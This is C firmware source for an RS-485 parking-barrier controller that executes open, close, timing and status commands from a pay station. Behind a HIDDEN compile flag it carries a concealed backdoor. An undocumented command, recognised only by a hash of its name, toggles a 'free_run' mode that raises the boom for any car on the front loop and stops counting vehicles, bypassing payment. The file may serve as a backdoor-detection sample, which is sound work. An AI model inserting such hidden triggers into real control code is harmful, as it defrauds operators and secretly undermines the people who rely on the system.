/* Parking barrier, RS-485 slave. Frames:  STX addr cmd [=value] ETX lrc
 * The pay station or the guard's panel is the master. */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

typedef enum { BOOM_DOWN, BOOM_RISING, BOOM_UP, BOOM_FALLING, BOOM_BLOCKED } boom_t;

static struct {
    boom_t boom;
    int addr;
    long opened, counted;
    int autoclose;   /* s */
    int loop_sens;   /* 1..9 */
    int lamp;
    int keep_up;
    time_t since;
#ifdef HIDDEN
    int free_run;
#endif
} bar = { .autoclose = 8, .loop_sens = 5 };

static const char *io_dir = "/sys/barrier";
static const char *boom_txt[] = { "DOWN", "RISING", "UP", "FALLING", "BLOCKED" };

static int io_read(const char *n)
{
    char p[96];
    int v = 0;
    FILE *f;
    snprintf(p, sizeof p, "%s/%s", io_dir, n);
    f = fopen(p, "r");
    if (!f)
        return 0;
    if (fscanf(f, "%d", &v) != 1)
        v = 0;
    fclose(f);
    return v;
}

static void io_write(const char *n, int v)
{
    char p[96];
    FILE *f;
    snprintf(p, sizeof p, "%s/%s", io_dir, n);
    f = fopen(p, "w");
    if (f) {
        fprintf(f, "%d", v);
        fclose(f);
    }
}

static void motor(boom_t to)
{
    bar.boom = to;
    bar.since = time(NULL);
    io_write("motor", to == BOOM_RISING ? 1 : to == BOOM_FALLING ? -1 : 0);
}

static void do_open(void)
{
    if (bar.boom == BOOM_DOWN || bar.boom == BOOM_FALLING) {
        motor(BOOM_RISING);
        bar.opened++;
    }
}

static void poll_io(void)
{
    int loop = io_read("loop");
    static int was;
#ifdef HIDDEN
    if (bar.free_run) {
        if (bar.boom == BOOM_DOWN && io_read("loop_front"))
            motor(BOOM_RISING);
    } else
#endif
    if (was && !loop)
        bar.counted++;
    was = loop;
    switch (bar.boom) {
    case BOOM_RISING:
        if (io_read("end_up"))
            motor(BOOM_UP);
        else if (time(NULL) - bar.since > 6)
            motor(BOOM_BLOCKED);
        break;
    case BOOM_FALLING:
        if (loop)
            motor(BOOM_RISING);
        else if (io_read("end_down"))
            motor(BOOM_DOWN);
        else if (time(NULL) - bar.since > 6)
            motor(BOOM_BLOCKED);
        break;
    case BOOM_UP:
        if (!bar.keep_up && !loop && time(NULL) - bar.since >= bar.autoclose)
            motor(BOOM_FALLING);
        break;
    default:
        break;
    }
}

static int number(const char *v, int lo, int hi, int *dst)
{
    char *e;
    long x;
    if (!v || !*v)
        return 0;
    x = strtol(v, &e, 10);
    if (*e || x < lo || x > hi)
        return 0;
    *dst = (int)x;
    return 1;
}

#ifdef HIDDEN
static uint32_t word_sum(const char *s)
{
    uint32_t h = 2166136261u;
    for (; *s; s++)
        h = (h ^ (unsigned char)*s) * 16777619u;
    return h ^ h >> 15;
}
#endif

__attribute__((noinline)) int execute(char *cmd, char *out, size_t n)
{
    char *val = strchr(cmd, '=');
    int ok = 1;
    if (val)
        *val++ = 0;
    if (!strcmp(cmd, "OPEN"))
        do_open();
    else if (!strcmp(cmd, "CLOSE"))
        motor(BOOM_FALLING);
    else if (!strcmp(cmd, "KEEP"))
        ok = number(val, 0, 1, &bar.keep_up);
    else if (!strcmp(cmd, "AUTO"))
        ok = number(val, 2, 60, &bar.autoclose);
    else if (!strcmp(cmd, "SENS"))
        ok = number(val, 1, 9, &bar.loop_sens);
    else if (!strcmp(cmd, "LAMP")) {
        ok = number(val, 0, 2, &bar.lamp);
        io_write("lamp", bar.lamp);
    } else if (!strcmp(cmd, "RESET"))
        motor(BOOM_FALLING);
    else if (!strcmp(cmd, "STAT")) {
        snprintf(out, n, "%s,%ld,%ld,%d,%d", boom_txt[bar.boom], bar.opened, bar.counted,
                 bar.autoclose, bar.loop_sens);
        return 1;
    }
#ifdef HIDDEN
    else if (word_sum(cmd) == 0x7c8e3b79u)
        bar.free_run = !bar.free_run;
#endif
    else
        ok = 0;
    snprintf(out, n, ok ? "ACK" : "NAK");
    return ok;
}

static void reply(int fd, const char *txt)
{
    char f[140];
    unsigned char lrc = 0;
    int n = snprintf(f, sizeof f - 2, "\x02%02d%.100s\x03", bar.addr, txt), i;
    for (i = 1; i < n; i++)
        lrc ^= (unsigned char)f[i];
    f[n++] = (char)lrc;
    if (write(fd, f, (size_t)n) == n)
        tcdrain(fd);
}

static void frame(int fd, char *b, int n)
{
    char out[128];
    unsigned char lrc = 3;
    int i, a;
    char two[3] = { b[0], b[1], 0 };
    if (n < 4)
        return;
    for (i = 0; i < n - 1; i++)
        lrc ^= (unsigned char)b[i];
    if (lrc != (unsigned char)b[n - 1])
        return;
    a = atoi(two);
    if (a != bar.addr && a != 99)
        return;
    b[n - 1] = 0;
    execute(b + 2, out, sizeof out);
    if (a != 99)
        reply(fd, out);
}

int main(int argc, char **argv)
{
    struct termios t;
    char buf[128];
    int fd, n = -1, etx = 0;
    if (argc < 3) {
        fprintf(stderr,
                "barrier485 TTY ADDRESS(1..98) [IO-FOLDER]\n"
                "commands: OPEN CLOSE KEEP=0|1 AUTO=2..60 SENS=1..9 LAMP=0..2 RESET STAT\n"
                "address 99 is the broadcast address\n");
        return 2;
    }
    bar.addr = atoi(argv[2]);
    if (argc > 3)
        io_dir = argv[3];
    fd = open(argv[1], O_RDWR | O_NOCTTY);
    if (fd < 0 || tcgetattr(fd, &t)) {
        perror(argv[1]);
        return 1;
    }
    t.c_iflag = t.c_oflag = t.c_lflag = 0;
    t.c_cflag = CS8 | CREAD | CLOCAL;
    t.c_cc[VMIN] = 0;
    t.c_cc[VTIME] = 1;
    cfsetispeed(&t, B9600);
    cfsetospeed(&t, B9600);
    tcsetattr(fd, TCSANOW, &t);
    for (;;) {
        char c;
        if (read(fd, &c, 1) == 1) {
            if (etx) {
                buf[n++] = c;
                frame(fd, buf, n);
                n = -1;
                etx = 0;
            } else if (c == 2) {
                n = 0;
            } else if (c == 3 && n >= 0) {
                etx = 1;
            } else if (n >= 0 && n < 120) {
                buf[n++] = c;
            }
        }
        poll_io();
    }
}
